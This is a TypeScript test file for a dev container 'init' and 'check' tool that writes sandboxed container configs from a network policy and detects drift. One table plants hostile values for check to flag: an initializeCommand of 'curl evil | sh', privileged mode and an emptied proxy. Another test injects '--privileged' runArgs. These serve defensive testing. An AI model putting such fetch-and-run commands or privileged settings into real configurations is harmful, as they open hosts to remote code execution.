// `devcontainer init` and `check` on real folders.
import { spawnSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, afterEach, beforeEach, expect, test } from 'vitest'
import type { Wanted } from '../../src/devcontainer/devcontainer-files.ts'
import { findDrift, readRecord, writeFiles } from '../../src/devcontainer/devcontainer-folder.ts'
import { isListed, isReadOnlyMount, powersOf } from '../../src/devcontainer/machine.ts'
import { samplesOf } from '../../src/devcontainer/samples.ts'
import { decideEgress } from '../../src/policy/decide/egress.ts'
import { loadPolicy, parsePolicy } from '../../src/policy/read/load.ts'
import { openCommandLines, type Said } from '../support/command-lines.ts'

const MAIN = new URL('../../dist/main.js', import.meta.url).pathname
const POLICY = readFileSync('policy.yaml', 'utf8')
const CHOICES = { policy: 'policy.yaml', image: 'agui-runner:0.1.0' }

let root = ''
let wanted: Wanted
beforeEach(async () => {
  root = mkdtempSync(join(tmpdir(), 'agui-devcontainer-'))
  writeFileSync(join(root, 'policy.yaml'), POLICY)
  wanted = {
    policy: await loadPolicy('policy.yaml'),
    policyText: POLICY,
    image: CHOICES.image,
    network: undefined,
  }
})
afterEach(() => rmSync(root, { recursive: true }))

const place = (name: string): string => join(root, '.devcontainer', name)
const init = (isForced = false) => writeFiles(root, { wanted, choices: CHOICES, isForced })
const drift = () => findDrift(root, wanted, CHOICES)
const contents = (): Record<string, string> =>
  Object.fromEntries(readdirSync(place('.')).map((name) => [name, readFileSync(place(name), 'utf8')]))

const lines = openCommandLines()
afterAll(() => lines.close())
/** The command itself. */
const run = (...args: string[]): Promise<Said> => lines.run(['devcontainer', ...args], { cwd: root })

test('a second init changes nothing, and what init wrote is what check wants', async () => {
  const { changed } = await init()
  expect(changed).toHaveLength(7)
  const before = contents()
  expect(await init()).toEqual({ changed: [], overwritten: [] })
  expect([contents(), await drift()]).toEqual([before, []])
  expect(spawnSync('shellcheck', [place('entry.sh')], { encoding: 'utf8' })).toMatchObject({
    status: 0,
    stdout: '',
  })
})

test('any edit of any file is found, refused by init with nothing written, and overwritten only with a word', async () => {
  await init()
  const written = contents()
  const edit = fc.record({
    name: fc.constantFrom(...Object.keys(written)),
    at: fc.nat(),
    text: fc.constantFrom('x', '\n', ' ', '0'),
  })
  await fc.assert(
    fc.asyncProperty(edit, async ({ name, at, text }) => {
      const whole = written[name] ?? ''
      const index = at % whole.length
      const edited = `${whole.slice(0, index)}${text}${whole.slice(index)}`
      writeFileSync(place(name), edited)
      const sentences = await drift().catch((error: Error) => [error.message])
      if (name === 'devcontainer.json' && sentences.length === 0) {
        // A blank between members, or a letter of what is a person's own.
        await init()
        expect(contents()[name]).toBe(edited)
      } else if (name === 'agui-runner.json') {
        expect(sentences).not.toEqual([])
      } else {
        expect(sentences.join()).toContain(`.devcontainer/${name}`)
        await expect(init()).rejects.toThrow(`.devcontainer/${name}: edited since init wrote it`)
        expect(contents()[name]).toBe(edited)
        expect((await init(true)).overwritten).toEqual([name])
      }
      writeFileSync(place(name), whole)
    }),
    { numRuns: 25 },
  )
})

test('what is a person’s own in devcontainer.json stays, whatever it is, over a change of the policy', async () => {
  await init()
  const own = fc.record(
    {
      name: fc.string(),
      customizations: fc.dictionary(
        fc.string().filter((key) => key !== '__proto__'),
        fc.jsonValue({ maxDepth: 2 }),
      ),
      forwardPorts: fc.array(fc.nat(65535).filter((port) => port !== 3128)),
      postCreateCommand: fc.string(),
    },
    { requiredKeys: [] },
  )
  let turn = 1
  await fc.assert(
    fc.asyncProperty(own, async (members) => {
      const { name: _, ...locked } = JSON.parse(readFileSync(place('devcontainer.json'), 'utf8'))
      for (const key of ['customizations', 'forwardPorts', 'postCreateCommand']) delete locked[key]
      const mine = JSON.parse(JSON.stringify(members))
      writeFileSync(place('devcontainer.json'), JSON.stringify({ ...mine, ...locked }))
      expect(await drift()).toEqual([])
      wanted = { ...wanted, image: `agui-runner:0.1.${turn++}` }
      const { changed } = await init()
      expect(changed).toContain('devcontainer.json')
      const { name: __, ...after } = JSON.parse(readFileSync(place('devcontainer.json'), 'utf8'))
      const { name: ___, ...kept } = mine
      expect(after).toMatchObject({ ...kept, build: { args: { BASE_IMAGE: wanted.image } } })
    }),
    { numRuns: 15 },
  )
})

test.each([
  ['features', { 'ghcr.io/devcontainers/features/docker-in-docker:2': {} }],
  ['initializeCommand', 'curl evil | sh'],
  ['privileged', true],
  ['containerEnv', { HTTPS_PROXY: '' }],
  ['waitFor', 'initializeCommand'],
  ['forwardPorts', [8080, 3128]],
  ['forwardPorts', ['localhost:3128']],
])('a devcontainer.json with other %s is named by check', async (member, value) => {
  await init()
  const found = JSON.parse(readFileSync(place('devcontainer.json'), 'utf8'))
  writeFileSync(place('devcontainer.json'), JSON.stringify({ ...found, [member]: value }))
  expect(await drift()).toEqual([`.devcontainer/devcontainer.json: ${member} differ from what init writes.`])
})

test.each([
  ['a comment', (text: string) => text.replace('{', '{ // mine')],
  ['a member twice', (text: string) => text.replace('{', '{ "runArgs": ["--privileged"],')],
  ['no object', () => '[]'],
  ['nothing', () => ''],
])('a devcontainer.json with %s cannot be judged, which is said', async (_, edited) => {
  await init()
  writeFileSync(place('devcontainer.json'), edited(readFileSync(place('devcontainer.json'), 'utf8')))
  expect(await drift()).toEqual([expect.stringContaining('devcontainer.json cannot be judged: ')])
  await expect(init()).rejects.toThrow('edited since init wrote it')
})

test('a link that a repository has in place of a draft is not written through', async () => {
  mkdirSync(place('.'), { recursive: true })
  const target = join(root, 'elsewhere')
  writeFileSync(target, 'mine')
  symlinkSync(target, place('entry.sh.new'))
  await init()
  expect(readFileSync(target, 'utf8')).toBe('mine')
  expect(await drift()).toEqual([])
})

test('init, a change of the policy, check, init: by the command', async () => {
  expect(await run('init', '--network', 'agents')).toMatchObject({
    code: 0,
    stdout: expect.stringContaining('devcontainer.json: written'),
  })
  expect(await run('check')).toEqual({
    code: 0,
    stdout: '.devcontainer is what policy.yaml makes\n',
    stderr: '',
  })
  writeFileSync(join(root, 'policy.yaml'), POLICY.replace('api.github.com', 'api.example.com'))
  const checked = await run('check')
  expect(checked).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('.devcontainer/policy.yaml is not what policy.yaml makes.'),
  })
  expect(await run('init')).toMatchObject({ code: 0, stderr: '' })
  // The network of before.
  expect(readFileSync(place('devcontainer.json'), 'utf8')).toContain('--network=agents')
  expect(await run('check', root)).toMatchObject({ code: 0 })
})

test.each([
  ['a file in the folder’s place', () => writeFileSync(place('.'), ''), /\.devcontainer is no folder/],
  ['a link in the folder’s place', () => symlinkSync(tmpdir(), place('.')), /\.devcontainer is no folder/],
  [
    'another’s devcontainer.json',
    () => {
      mkdirSync(place('.'))
      writeFileSync(place('devcontainer.json'), '{ "image": "debian" } // mine')
    },
    /devcontainer\.json: there already, and not from this command/,
  ],
  [
    'another’s .devcontainer.json',
    () => writeFileSync(join(root, '.devcontainer.json'), '{}'),
    /\.devcontainer\.json is another dev container/,
  ],
])('%s: init refuses, and writes nothing', async (_, prepare, sentence) => {
  prepare()
  const before = readdirSync(root)
  await expect(init()).rejects.toThrow(sentence)
  expect(readdirSync(root)).toEqual(before)
})

test.each([
  ['no policy', () => rmSync(join(root, 'policy.yaml')), ['init'], /cannot read the policy .*: ENOENT/],
  [
    'a broken policy',
    () => writeFileSync(join(root, 'policy.yaml'), 'version: x\n'),
    ['init'],
    /policy\.yaml:1:10: version must be/,
  ],
  ['a policy elsewhere', () => undefined, ['init', '--policy', '../policy.yaml'], /is not in /],
  ['a folder that is not there', () => undefined, ['init', 'nowhere'], /nowhere is not there/],
  ['an unknown option', () => undefined, ['init', '--lock'], /unknown option '--lock'/],
  [
    'an image without a tag',
    () => undefined,
    ['init', '--image', 'agui-runner'],
    /an exact tag, not latest, or/,
  ],
  ['the latest image', () => undefined, ['init', '--image', 'a:latest'], /an exact tag, not latest, or/],
  ['the host’s network', () => undefined, ['init', '--network', 'host'], /host and none are no such network/],
  ['check of nothing', () => undefined, ['check'], /has no dev container of this command/],
  ['verify on the host', () => undefined, ['verify'], /policy\.yaml is not there: verify runs inside/],
])('%s: exit 2 with one sentence, and nothing written', async (_, prepare, args, sentence) => {
  prepare()
  const { code, stderr } = await run(...args)
  expect([code, stderr]).toEqual([2, expect.stringMatching(sentence)])
  expect(readdirSync(root).filter((name) => name !== 'policy.yaml')).toEqual([])
})

test('a record that cannot be read is said; with --force init begins anew', async () => {
  await init()
  writeFileSync(place('agui-runner.json'), '{')
  await expect(readRecord(root)).rejects.toThrow('agui-runner.json is not what init wrote')
  expect((await init(true)).changed).toEqual(['agui-runner.json'])
  expect(await drift()).toEqual([])
})

test.each([
  ['the host’s network', { network: 'host' }],
  ['an option for an image', { image: '--privileged' }],
])('%s in the record is no choice', async (_, choice) => {
  await init()
  const record = JSON.parse(readFileSync(place('agui-runner.json'), 'utf8'))
  writeFileSync(place('agui-runner.json'), JSON.stringify({ ...record, ...choice }))
  await expect(readRecord(root)).rejects.toThrow('agui-runner.json is not what init wrote')
})

test('a policy that lies elsewhere, also behind a link: exit 2, and nothing is written', async () => {
  symlinkSync(new URL('../../policy.yaml', import.meta.url).pathname, join(root, 'link.yaml'))
  for (const policy of ['link.yaml', '../policy.yaml'])
    expect(await run('init', '--policy', policy)).toMatchObject({
      code: 2,
      stderr: expect.stringContaining(`The policy ${policy} is not in`),
    })
  expect(existsSync(join(root, '.devcontainer'))).toBe(false)
})

test('a folder that this user may not write: exit 2, and it says so', () => {
  chmodSync(root, 0o755)
  const { status, stderr } = spawnSync(process.execPath, [MAIN, 'devcontainer', 'init'], {
    ...{ cwd: root, encoding: 'utf8' },
    ...(process.getuid?.() === 0 ? { uid: 64_999, gid: 64_999 } : {}),
  })
  if (process.getuid?.() === 0)
    expect([status, stderr]).toEqual([2, expect.stringMatching(/\.devcontainer cannot be written: EACCES/)])
})

test('what verify asks for is allowed by the policy and changes nothing', async () => {
  const samples = samplesOf(wanted.policy)
  expect(samples).toEqual([
    { host: 'github.com', port: 443, method: 'GET', path: '/x/x/info/refs?service=git-upload-pack' },
    { host: 'api.github.com', port: 443, method: 'GET', path: '/' },
  ])
  const source = `version: 1
network_policies:
  a:
    endpoints:
      - { host: plain.example, ports: [443, 8443] }
      - { host: '*.wild.example', port: 443 }
      - { host: writes.example, port: 443, protocol: rest, enforcement: enforce, rules: [{ allow: { method: POST, path: /** } }] }
      - { host: heads.example, port: 80, protocol: rest, enforcement: enforce, rules: [{ allow: { method: HEAD, path: '/a/*/b' } }] }
    binaries: [{ path: /usr/bin/curl }]
`
  const { policy, problems } = parsePolicy(source, { file: 'p' })
  expect(problems.filter(({ severity }) => severity === 'error')).toEqual([])
  expect(policy && samplesOf(policy)).toEqual([
    { host: 'plain.example', port: 443 },
    { host: 'plain.example', port: 8443 },
    { host: 'heads.example', port: 80, method: 'HEAD', path: '/a/x/b' },
  ])
  for (const sample of samples) expect(decideEgress(wanted.policy, sample).verdict).toBe('allow')
})

const STATUS = (fields: Record<string, string>): string =>
  Object.entries({
    CapInh: '0',
    CapPrm: '0',
    CapEff: '0',
    CapBnd: '00000000000011c4',
    CapAmb: '0',
    NoNewPrivs: '1',
    ...fields,
  })
    .map(([name, value]) => `${name}:\t${value}`)
    .join('\n')

test('powers that a user has or could get are named', () => {
  expect(powersOf(STATUS({}))).toEqual([])
  expect(powersOf(STATUS({ CapEff: '0000000000001000' }))).toEqual([expect.stringContaining('CapEff')])
  expect(powersOf(STATUS({ CapBnd: '000001ffffffffff' }))).toEqual([expect.stringContaining('CapBnd')])
  expect(powersOf(STATUS({ NoNewPrivs: '0' }))).toEqual([expect.stringContaining('NoNewPrivs')])
})

test.each([
  ['10.0.0.1 other api.example.com # ours', true],
  ['10.0.0.1\tAPI.example.com', true],
  ['10.0.0.1 my-api.example.com api.example.com.local', false],
  ['# 10.0.0.1 api.example.com', false],
])('%j in /etc/hosts names the host: %s', (line, isThere) => {
  expect(isListed('api.example.com', `127.0.0.1 localhost\n${line}\n`)).toBe(isThere)
})

test.each([
  ['the folder', '.'],
  ['devcontainer.json', 'devcontainer.json'],
  ['the entry', 'entry.sh'],
  ['the record', 'agui-runner.json'],
])(
  'a link in the place of %s is found, though what it leads to is right: inside, that can be changed',
  async (_, name) => {
    await init()
    const target = join(root, 'elsewhere')
    renameSync(place(name), target)
    symlinkSync(target, place(name).replace(/\/$/, ''))
    expect(await drift()).toEqual([expect.stringMatching(/^\.devcontainer\S* is a link/)])
    await expect(init()).rejects.toThrow(name === '.' ? 'is no folder' : `.devcontainer/${name}: `)
    if (name === '.') return
    expect(await init(true)).toEqual({ changed: [name], overwritten: [name] })
    expect([await drift(), existsSync(target)]).toEqual([[], true])
  },
)

test('a mount is read-only by its own options, and by those of the last one at its place', () => {
  const line = (place: string, options: string) =>
    `36 35 98:0 /mnt ${place} ${options} master:1 - ext3 /dev/root rw\n`
  expect(isReadOnlyMount('/w/.d', line('/w', 'rw') + line('/w/.d', 'ro,noatime'))).toBe(true)
  expect(isReadOnlyMount('/w/.d', line('/w/.d', 'ro') + line('/w/.d', 'rw'))).toBe(false)
  expect(isReadOnlyMount('/w/.d', line('/w', 'ro'))).toBe(false)
})
